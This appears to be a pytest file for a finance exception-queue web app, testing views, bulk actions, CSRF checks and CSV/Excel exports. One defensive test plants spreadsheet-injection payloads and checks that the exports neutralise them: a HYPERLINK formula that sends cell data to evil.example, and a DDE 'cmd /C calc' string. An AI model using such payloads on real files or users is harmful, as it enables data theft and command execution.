"""The queue for a day's work (docs/web.md, "The queue"): my queue by default and a switch to all teams, the view
in the URL, bulk acknowledge / assign / comment / resolve through the single actions' own code path (permission,
version and audit per exception), downloads of the view as CSV and Excel, previous / next on the exception page,
ages and due dates, links to the source systems, and the patterns page.

Each test's people and workflow live in a state database of its own (`TIEOUT_STATE_URL`), over the shared world.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from tests.web.flow import client_for, state_env
from tieout import state
from tieout.config import Project, load_project
from tieout.due import DUE_KEYS
from tieout.story import JSON_KEYS
from tieout.web.app import create_app
from tieout.workflow import statuses, target_of
from tieout.workflow.audit import entries


def _ids(html: str) -> list[str]:
    """The queue table's rows, in order."""
    body = html.split('<table class="queue-table">')[1].split("</table>")[0] if "queue-table" in html else ""
    return re.findall(r'class="id mono">([0-9a-f]{16})<', body)


def _open(app: FastAPI, team: str | None = None) -> list[Any]:
    return [e for e in app.state.reads.exceptions() if e.status == "open" and (team is None or e.team == team)]


def _versions(html: str) -> dict[str, int]:
    return {i: int(v) for i, v in re.findall(r'name="item" value="([0-9a-f]{16}):(\d+)"', html)}


def _bulk(c: TestClient, csrf: str, kind: str, items: list[str], query: str = "", **extra: str) -> Any:
    return c.post(f"/queue/actions{query}", data={"csrf": csrf, "kind": kind, "item": items, **extra})


def _status(project: Project, app: FastAPI, ident: str) -> Any:
    e = next(x for x in app.state.reads.exceptions() if x.id == ident)
    return statuses(project, [target_of(e)]).get(ident)


# --- my queue -------------------------------------------------------------------------------------------------

def test_my_queue_is_the_default_my_teams_assigned_to_me_or_nobody(app: FastAPI, project: Project) -> None:
    alice, csrf = client_for(app, "alice")
    mine = alice.get("/").text
    ar = _open(app, "ar")
    assert sorted(_ids(mine)) == sorted(e.id for e in ar) and len(ar) < len(_open(app))
    assert 'id="view-mine"' in mine and 'aria-current="page">My queue' in mine
    assert "Team ar: assigned to you (alice) or to nobody." in mine
    assert sorted(_ids(alice.get("/?view=all").text)) == sorted(e.id for e in _open(app))

    # assigned to bob, it leaves alice's queue and enters bob's; all teams still shows it
    first, second = ar[0].id, ar[1].id
    assert alice.post(f"/api/exceptions/{first}/actions", json={"kind": "assign", "expected_version": 0,
                      "assignee": "bob"}, headers={"X-CSRF-Token": csrf}).status_code == 200
    assert alice.post(f"/api/exceptions/{second}/actions", json={"kind": "assign", "expected_version": 0,
                      "assignee": "alice"}, headers={"X-CSRF-Token": csrf}).status_code == 200
    mine = _ids(alice.get("/").text)
    assert first not in mine and second in mine
    assert first in _ids(alice.get("/?view=all").text)
    bob, _ = client_for(app, "bob")
    bobs = _ids(bob.get("/").text)
    assert first in bobs and second not in bobs
    # the API is for programs: every team's unless asked for the caller's own view
    assert len(alice.get("/api/exceptions").json()) == len(_open(app))
    assert [e["id"] for e in alice.get("/api/exceptions?view=mine").json()] == mine


def test_without_a_team_my_queue_is_assigned_to_me_or_nobody_across_teams(app: FastAPI, project: Project) -> None:
    root, csrf = client_for(app, "root")
    page = root.get("/").text
    assert "You belong to no team: what is assigned to you (root) or to nobody, across teams." in page
    assert sorted(_ids(page)) == sorted(e.id for e in _open(app))
    taken = _open(app, "product")[0].id
    assert root.post(f"/api/exceptions/{taken}/actions", json={"kind": "assign", "expected_version": 0,
                     "assignee": "olga"}, headers={"X-CSRF-Token": csrf}).status_code == 200
    assert taken not in _ids(root.get("/").text) and taken in _ids(root.get("/?view=all").text)


def test_the_view_and_every_filter_are_in_the_url(app: FastAPI, project: Project) -> None:
    alice, _ = client_for(app, "alice")
    page = alice.get("/").text
    link = re.search(r'id="view-all" href="([^"]+)"', page)
    assert link is not None and link.group(1) == "/?view=all"
    url = "/?view=all&severity=P1&severity=P2&sort=age&status=all"
    bookmarked = alice.get(url).text
    api = alice.get(f"/api/exceptions{url[1:]}").json()
    assert _ids(bookmarked) == [e["id"] for e in api] and api
    # the view is kept by every filter link and the search form
    assert re.search(r'id="f-team-ar"[^>]*href="/\?view=all&amp;status=all&amp;severity=P1&amp;severity=P2&amp;'
                     r'team=ar&amp;sort=age"', bookmarked)
    assert '<input type="hidden" name="view" value="all">' in bookmarked
    assert alice.get("/?view=everyone").status_code == 422
    assert "view: unknown value &#39;everyone&#39; (expected one of mine, all)" in alice.get("/?view=everyone").text


# --- bulk actions ---------------------------------------------------------------------------------------------

def test_bulk_acknowledge_three_each_audited_back_to_the_same_view(app: FastAPI, project: Project) -> None:
    alice, csrf = client_for(app, "alice")
    page = alice.get("/?sort=age").text
    versions = _versions(page)
    three = _ids(page)[:3]
    response = _bulk(alice, csrf, "ack", [f"{i}:{versions[i]}" for i in three], "?sort=age")
    assert response.status_code == 303
    assert response.headers["location"] == "/?sort=age&done=bulk-ack&n=3#results"
    after = alice.get("/?sort=age&done=bulk-ack&n=3").text
    assert "3 exceptions acknowledged." in after
    assert {i: _status(project, app, i).status for i in three} == dict.fromkeys(three, "acknowledged")
    assert {i: _versions(after)[i] for i in three} == dict.fromkeys(three, 1)
    for ident in three:  # one audit entry each, as a single action writes
        last = entries(project, object=f"exception:{ident}")
        assert [(a["actor"], a["action"], a["outcome"]) for a in last] == [("alice", "ack", "allowed")]


def test_a_refused_exception_is_reported_and_the_others_still_applied(app: FastAPI, project: Project) -> None:
    alice, csrf = client_for(app, "alice")
    ar = [e.id for e in _open(app, "ar")]
    product = _open(app, "product")[0].id
    # ar[1] has moved on since "the page was read": its version is 1, the form still says 0
    bob, bob_csrf = client_for(app, "bob")
    assert bob.post(f"/api/exceptions/{ar[1]}/actions", json={"kind": "ack", "expected_version": 0},
                    headers={"X-CSRF-Token": bob_csrf}).status_code == 200
    response = _bulk(alice, csrf, "resolve", [f"{ar[0]}:0", f"{ar[1]}:0", f"{product}:0", "ffffffffffffffff:0"],
                     reason_code="fixed_in_source", comment="paid on the 3rd")
    assert response.status_code == 200
    report = response.text.split('id="bulk-report"')[1].split("</div>")[0]
    assert "1 exception resolved. 3 refused, nothing changed on them:" in report
    assert f"{ar[1]}</a>: exception {ar[1]} changed since version 0" in report
    assert f"{product}</a>: alice may not resolve exception {product}: the exception is routed to team product" \
        in report
    assert "no exception &#39;ffffffffffffffff&#39;" in report
    assert _status(project, app, ar[0]).status == "resolved"
    assert _status(project, app, ar[1]).status == "acknowledged" and _status(project, app, product) is None
    outcomes = {i: entries(project, object=f"exception:{i}")[0]["outcome"] for i in (ar[0], ar[1], product)}
    assert outcomes == {ar[0]: "allowed", ar[1]: "conflict", product: "refused"}
    # every one refused: the single action's status code
    again = _bulk(alice, csrf, "ack", [f"{product}:0"])
    assert again.status_code == 403 and "1 refused" in again.text and "0 exceptions acknowledged." in again.text


def test_bulk_assign_and_comment_through_the_api(app: FastAPI, project: Project) -> None:
    alice, csrf = client_for(app, "alice")
    ar = [e.id for e in _open(app, "ar")][:3]
    body = {"kind": "assign", "assignee": "bob", "items": [{"id": i, "expected_version": 0} for i in ar]}
    response = alice.post("/api/exceptions/actions", json=body, headers={"X-CSRF-Token": csrf})
    assert response.status_code == 200, response.text
    got = response.json()
    assert [s["assignee"] for s in got["applied"]] == ["bob"] * 3 and got["refused"] == []
    outsider = alice.post("/api/exceptions/actions", headers={"X-CSRF-Token": csrf}, json={
        "kind": "assign", "assignee": "olga", "items": [{"id": ar[0], "expected_version": 1}]}).json()
    assert outsider["applied"] == [] and outsider["refused"][0]["status_code"] == 422
    assert "'olga' is not a member of the routed team" in outsider["refused"][0]["detail"]
    commented = _bulk(alice, csrf, "comment", [f"{i}:1" for i in ar], comment="called the customer")
    assert commented.status_code == 303
    assert all(entries(project, object=f"exception:{i}")[0]["action"] == "comment" for i in ar)


@pytest.mark.parametrize(("who", "code"), [("dave", 403), ("carol", 403)])
def test_bulk_follows_each_roles_rights(app: FastAPI, project: Project, who: str, code: int) -> None:
    c, csrf = client_for(app, who)
    ident = _open(app, "ar")[0].id
    response = _bulk(c, csrf, "ack", [f"{ident}:0"])
    assert response.status_code == code
    assert entries(project, object=f"exception:{ident}")[0]["outcome"] == "refused"
    page = c.get("/").text
    assert 'id="bulk-ack"' not in page  # the form offers what the role may do: nothing to an auditor
    assert ('id="bulk-comment-button"' in page) == (who == "carol")  # an approver may comment


def test_bulk_needs_the_csrf_token_and_a_well_formed_request(app: FastAPI, project: Project) -> None:
    alice, csrf = client_for(app, "alice")
    ident = _open(app, "ar")[0].id
    forged = alice.post("/queue/actions", data={"kind": "ack", "item": [f"{ident}:0"]})
    assert forged.status_code == 403 and _status(project, app, ident) is None
    assert entries(project)[0]["reason"] == "CSRF token missing or wrong"
    assert alice.post("/api/exceptions/actions", json={"kind": "ack", "items": []}).status_code == 403
    assert _bulk(alice, csrf, "ack", []).status_code == 422
    assert _bulk(alice, csrf, "suppress", [f"{ident}:0"]).status_code == 422
    assert _bulk(alice, csrf, "ack", [ident]).status_code == 422  # no version: which state did you decide on?
    too_many = [f"{i:016x}:0" for i in range(501)]
    assert "at most 500" in _bulk(alice, csrf, "ack", too_many).text
    assert _status(project, app, ident) is None


# --- downloads ------------------------------------------------------------------------------------------------

def test_downloads_hold_the_view_in_its_order(app: FastAPI, project: Project) -> None:
    from openpyxl import load_workbook

    alice, _ = client_for(app, "alice")
    root, csrf = client_for(app, "root")
    query = "?view=all&status=all&severity=P1&severity=P2&severity=P3&sort=age"
    shown = _ids(alice.get(f"/{query}").text)
    assert shown and f'href="/queue.csv{query.replace("&", "&amp;")}"' in alice.get(f"/{query}").text
    ar = next(i for i in shown if i in {e.id for e in _open(app, "ar")})
    assert root.post(f"/api/exceptions/{ar}/actions", headers={"X-CSRF-Token": csrf},
                     json={"kind": "assign", "expected_version": 0, "assignee": "bob"}).status_code == 200
    got = alice.get(f"/queue.csv{query}")
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert 'filename="tieout-queue-2026-03-01.csv"' in got.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(got.text)))
    assert list(rows[0]) == [*JSON_KEYS, "workflow", "assignee", *DUE_KEYS]
    assert [r["id"] for r in rows] == shown
    assigned = next(r for r in rows if r["id"] == ar)
    assert (assigned["workflow"], assigned["assignee"]) == ("assigned", "bob")
    api = {e["id"]: e for e in alice.get(f"/api/exceptions{query}").json()}
    assert all(r["due_on"] == (api[r["id"]]["due_on"] or "") and r["age_days"] == str(api[r["id"]]["age_days"])
               for r in rows)
    book = load_workbook(io.BytesIO(alice.get(f"/queue.xlsx{query}").content))
    assert book.sheetnames == ["Summary", "Exceptions"]
    sheet = list(book["Exceptions"].iter_rows(values_only=True))
    header = sheet[1]
    assert header[0] == "Severity" and header[-1] == "ID"
    assert [r[-1] for r in sheet[2:]] == shown
    impact = header.index("Impact")
    assert all(isinstance(r[impact], (int, float)) for r in sheet[2:])  # money as numbers, not text


def test_a_hostile_value_is_text_in_both_downloads(app: FastAPI, project: Project,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl import load_workbook

    real = app.state.reads.exceptions()
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    planted = [replace(real[0], details=hostile, source_id="@SUM(1+1)*cmd|' /C calc'!A0", team="ar"), *real[1:]]
    monkeypatch.setattr(app.state.reads, "exceptions", lambda as_of=None: planted)
    root, _ = client_for(app, "root")
    text = root.get("/queue.csv?view=all&status=all").text
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + hostile in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.match(r"^-?\d", c))]
    book = load_workbook(io.BytesIO(root.get("/queue.xlsx?view=all&status=all").content))
    values = [c for row in book["Exceptions"].iter_rows() for c in row if c.value is not None]
    assert not [c for c in values if c.data_type == "f"]
    assert "'" + hostile in {c.value for c in values}


# --- the exception page: previous / next, age and due date, source links --------------------------------------

def test_previous_and_next_follow_the_queue_view_and_survive_an_action(app: FastAPI, project: Project) -> None:
    alice, csrf = client_for(app, "alice")
    query = "?view=all&sort=age"
    order = _ids(alice.get(f"/{query}").text)
    assert len(order) >= 3
    page = alice.get(f"/exceptions/{order[1]}{query}").text
    assert f'id="previous" rel="prev" accesskey="p" href="/exceptions/{order[0]}?view=all&amp;sort=age"' in page
    assert f'id="next" rel="next" accesskey="n" href="/exceptions/{order[2]}?view=all&amp;sort=age"' in page
    assert f"2 of {len(order)}" in page and 'id="back-to-queue" href="/?view=all&amp;sort=age"' in page
    first = alice.get(f"/exceptions/{order[0]}{query}").text
    assert 'id="previous"' not in first and f'href="/exceptions/{order[1]}?view=all&amp;sort=age"' in first
    # an action keeps the view: the form posts it, the redirect carries it
    ar = next(i for i in order if i in {e.id for e in _open(app, "ar")})
    form = alice.get(f"/exceptions/{ar}{query}").text
    assert f'action="/exceptions/{ar}/actions?view=all&amp;sort=age"' in form
    done = alice.post(f"/exceptions/{ar}/actions{query}", data={"csrf": csrf, "kind": "ack", "expected_version": 0})
    assert done.status_code == 303
    assert done.headers["location"] == f"/exceptions/{ar}?view=all&sort=age&done=ack#actions"
    # out of "my queue" after assigning it away, it still has neighbours where it would sort
    mine = _ids(alice.get("/").text)
    version = _versions(alice.get("/").text)[mine[0]]
    assert alice.post(f"/exceptions/{mine[0]}/actions", data={"csrf": csrf, "kind": "assign", "assignee": "bob",
                      "expected_version": version}).status_code == 303
    moved = alice.get(f"/exceptions/{mine[0]}").text
    assert "not in this view now" in moved and f'href="/exceptions/{mine[1]}"' in moved


def test_age_due_date_and_overdue_on_the_as_of_day(app: FastAPI, project: Project) -> None:
    alice, _ = client_for(app, "alice")
    api = alice.get("/api/exceptions?view=all").json()
    late = [e for e in api if e["overdue"]]
    fine = [e for e in api if not e["overdue"]]
    assert late and fine
    sla = app.state.project.sla
    for e in api:
        days = sla.days(e["severity"])
        if days is None:
            assert e["due_on"] is None
        else:
            from datetime import date

            assert date.fromisoformat(e["due_on"]) == date.fromisoformat(e["first_seen"]) + timedelta(days=days)
            assert e["overdue"] == (date(2026, 3, 1) > date.fromisoformat(e["due_on"]))  # the as-of day
    page = alice.get("/?view=all").text
    assert page.count('class="age late"') == len(late)
    assert f'overdue · due {late[0]["due_on"]}' in page
    exc = alice.get(f"/exceptions/{late[0]['id']}").text
    assert f'class="late">{late[0]["age_days"]} days · overdue since {late[0]["due_on"]}' in exc


def test_source_records_link_to_their_systems_through_safe_templates(world: Path, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(state.ENV_URL, state_env(tmp_path))
    linked = load_project(world).model_copy(update={"links": {
        "crm": "https://example.my.salesforce.com/{source_id}", "billing": "https://pay.example/c/{source_id}"}})
    c = TestClient(create_app(linked, auth=False))
    unmapped = next(e for e in c.get("/api/exceptions?status=all").json()
                    if e["rule"] == "UNMAPPED_SOURCE_RECORD" and e["source_system"] == "billing")
    page = c.get(f"/exceptions/{unmapped['id']}").text
    assert f'<a class="source-link" href="https://pay.example/c/{unmapped["source_id"]}"' in page
    entity = next(e["canonical_id"] for e in c.get("/api/exceptions").json() if e["canonical_id"])
    records = c.get(f"/entities/{entity}").text
    assert 'href="https://example.my.salesforce.com/' in records and "open" in records
    state.dispose_all()


# --- patterns -------------------------------------------------------------------------------------------------

def test_the_patterns_page_is_tieout_patterns_and_links_to_each_patterns_exceptions(client: TestClient,
                                                                                    world: Path) -> None:
    from tests.conftest import invoke

    page = client.get("/patterns").text
    assert '<a href="/patterns" accesskey="a" aria-current="page">Patterns</a>' in page
    import json

    report = json.loads(invoke("patterns", "-p", str(world), "--format", "json").stdout)
    shown = re.findall(r'<tr id="p-([0-9a-f]{12})">', page)
    assert shown == [p["id"] for p in report["patterns"]] and shown
    # each on its calendar strip: a day for each of the trend's weeks, the days one opened marked
    assert page.count('<div class="strip" role="img"') == len(shown)
    assert page.count('class="sday') == 7 * len(report["patterns"][0]["trend"]) * len(shown)
    every = json.loads(invoke("patterns", "-p", str(world), "--format", "json", "--examples", "100").stdout)
    window = report["patterns"][0]["trend"][0]["start"]
    assert all(p["count"] == len(p["examples"]) for p in every["patterns"])  # every occurrence is an example
    opened = re.findall(r'class="sday opened" title="(\d{4}-\d{2}-\d{2})', page)
    days = {(p["id"], e["first_seen"]) for p in every["patterns"] for e in p["examples"] if e["first_seen"] >= window}
    assert sorted(opened) == sorted(d for _, d in days) and opened
    for p in report["patterns"][:4]:
        assert p["sentence"].replace("'", "&#39;") in page
        link = f"/?view=all&status=all&pattern={p['id']}"
        assert f'href="{link.replace("&", "&amp;")}"' in page
        ids = _ids(client.get(link).text)
        examples = {e["id"] for e in p["examples"]}
        assert examples <= set(ids) and len(ids) <= p["count"]
    assert client.get("/?pattern=000000000000").status_code == 422
    assert client.get("/?pattern=nope").status_code == 422
